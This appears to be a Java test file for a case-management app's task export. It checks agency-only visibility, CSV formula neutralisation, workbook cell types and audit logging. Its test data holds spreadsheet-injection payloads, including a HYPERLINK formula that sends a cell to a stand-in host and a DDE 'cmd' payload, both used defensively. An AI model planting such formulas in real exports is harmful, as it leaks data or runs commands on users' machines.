package org.consilium.plan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.consilium.agency.AgencyType;
import org.consilium.base.CsvWriter;
import org.consilium.base.ExportFormat;
import org.consilium.base.Languages;
import org.consilium.testing.ExportFiles;
import org.consilium.testing.MariaDbTest;
import org.consilium.testing.SignedIn;
import org.consilium.testing.StaffAccounts;
import org.consilium.testing.TestPlans;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;

/** A partner agency's "My tasks" exported on MariaDB: its own tasks only, neutralised in CSV, refused and recorded. */
@MariaDbTest
class MyTaskExportTest {

    @Autowired
    MyTaskExport export;

    @Autowired
    PlanService plans;

    @Autowired
    TestPlans testPlans;

    @Autowired
    StaffAccounts staff;

    @Autowired
    SignedIn signedIn;

    @Autowired
    JdbcTemplate jdbc;

    private byte[] exported(String user, ExportFormat format) {
        return signedIn.as(user, () -> ExportFiles.bytes(out -> export.export(format, Languages.ENGLISH, out)));
    }

    private long count(String sqlCondition, Object... args) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM audit_entry WHERE " + sqlCondition, Long.class, args);
    }

    @Test
    void the_school_exports_its_own_tasks_as_its_page_lists_them_neutralised_in_csv_and_as_they_are_in_a_workbook() {
        String marker = SignedIn.unique("T");
        List<String> formulas = List.of("=HYPERLINK(\"http://ev.il/?\"&A1)" + marker, "+1+cmd|' /C calc'!A0" + marker,
                "-2+3" + marker, "@SUM(1+1)" + marker, "Табуляція" + marker, "Повернення" + marker);
        String awkward = "Відмічати, \"щодня\"\nі повідомляти " + marker;
        String police = "Бесіда поліції " + marker;
        TestPlans.PlanningCase c = testPlans.caseInPlanning();
        long planId = signedIn.as("curator", () -> {
            FamilyPlan p = plans.startPlan(c.caseId(), LocalDate.now(), LocalDate.now().plusMonths(6));
            PlanGoal g = plans.addGoal(p.getId(), TestPlans.goal("Ігор щодня відвідує школу"));
            plans.addTask(g.getId(), TestPlans.familyTask(c.motherId(), "Будити Ігоря о 7:00"));
            for (String text : formulas) {
                plans.addTask(g.getId(), TestPlans.agencyTask(staff.agencyOf(AgencyType.SCHOOL), text));
            }
            plans.addTask(g.getId(), TestPlans.agencyTask(staff.agencyOf(AgencyType.SCHOOL), awkward));
            plans.addTask(g.getId(), TestPlans.agencyTask(staff.agencyOf(AgencyType.POLICE), police));
            return p.getId();
        });
        // A description is trimmed when typed; one kept otherwise could still start with a tab or a carriage return.
        jdbc.update("UPDATE plan_task SET description = CONCAT(CHAR(9), description) WHERE id = ?",
                testPlans.task(planId, "Табуляція" + marker).get("id"));
        jdbc.update("UPDATE plan_task SET description = CONCAT(CHAR(13), description) WHERE id = ?",
                testPlans.task(planId, "Повернення" + marker).get("id"));
        testPlans.agreeApproveActivate(c, planId);

        List<MyTask> listed = signedIn.as("school", () -> plans.myTasks());
        byte[] file = exported("school", ExportFormat.CSV);
        List<List<String>> csv = ExportFiles.csv(file);
        assertThat(csv.getFirst()).containsExactly("Family", "Task", "Goal", "Specialist", "Due", "Overdue", "Status");
        List<List<String>> rows = csv.subList(1, csv.size());
        assertThat(rows).extracting(r -> r.get(1))
                .containsExactlyElementsOf(listed.stream().map(t -> CsvWriter.neutralised(t.description())).toList());
        assertThat(rows).extracting(r -> r.get(0)).containsExactlyElementsOf(listed.stream().map(MyTask::familyName).toList());
        List<String> ours = rows.stream().map(r -> r.get(1)).filter(d -> d.contains(marker)).toList();
        assertThat(ours).hasSize(formulas.size() + 1).doesNotContain(police);
        assertThat(ours).filteredOn(d -> !d.equals(awkward)).allSatisfy(d -> assertThat(d).startsWith("'"));
        assertThat(ours).contains("'\tТабуляція" + marker, "'\rПовернення" + marker, awkward);
        assertThat(new String(file, StandardCharsets.UTF_8)).contains("\"Відмічати, \"\"щодня\"\"\nі повідомляти " + marker + "\"");
        assertThat(rows).flatExtracting(r -> r).noneSatisfy(cell -> assertThat(cell).matches("(?s)^[=+\\-@\t\r].*"));

        List<Row> workbook = ExportFiles.workbook(exported("school", ExportFormat.XLSX));
        assertThat(workbook).hasSize(listed.size() + 1);
        assertThat(workbook.subList(1, workbook.size())).extracting(r -> r.getCellText(1))
                .containsExactlyElementsOf(listed.stream().map(MyTask::description).toList());
        assertThat(workbook.stream().filter(r -> r.getCellText(1).contains(marker)))
                .allSatisfy(r -> {
                    assertThat(r.getCell(1).getType()).isEqualTo(CellType.STRING);
                    assertThat(r.getCellAsDate(4)).as("due, a date cell").isPresent();
                });

        List<List<String>> theirs = ExportFiles.csv(exported("police", ExportFormat.CSV));
        assertThat(theirs).extracting(r -> r.get(1)).as("the police see their own task, not the school's")
                .contains(police).noneMatch(d -> d.contains(marker) && !d.equals(police));
    }

    @Test
    void an_export_of_my_tasks_is_in_the_audit_log_with_its_row_count() {
        int listed = signedIn.as("health", () -> plans.myTasks()).size();
        exported("health", ExportFormat.XLSX);
        String detail = jdbc.queryForObject("""
                SELECT detail FROM audit_entry WHERE username = 'health' AND action = 'EXPORT' AND entity_type = 'my-tasks'
                ORDER BY id DESC LIMIT 1""", String.class);
        assertThat(detail).isEqualTo("XLSX; rows " + listed);
    }

    @Test
    void a_role_without_tasks_of_its_own_is_refused_the_export_and_the_refusal_is_in_the_audit_log() {
        for (String user : List.of("curator", "supervisor", "intake", "family")) {
            long before = count("action = 'DENIED' AND username = ? AND detail LIKE 'MyTaskExport.export(%'", user);
            assertThatThrownBy(() -> exported(user, ExportFormat.CSV)).as(user).isInstanceOf(AccessDeniedException.class);
            assertThat(count("action = 'DENIED' AND username = ? AND detail LIKE 'MyTaskExport.export(%'", user)).isEqualTo(before + 1);
        }
    }
}
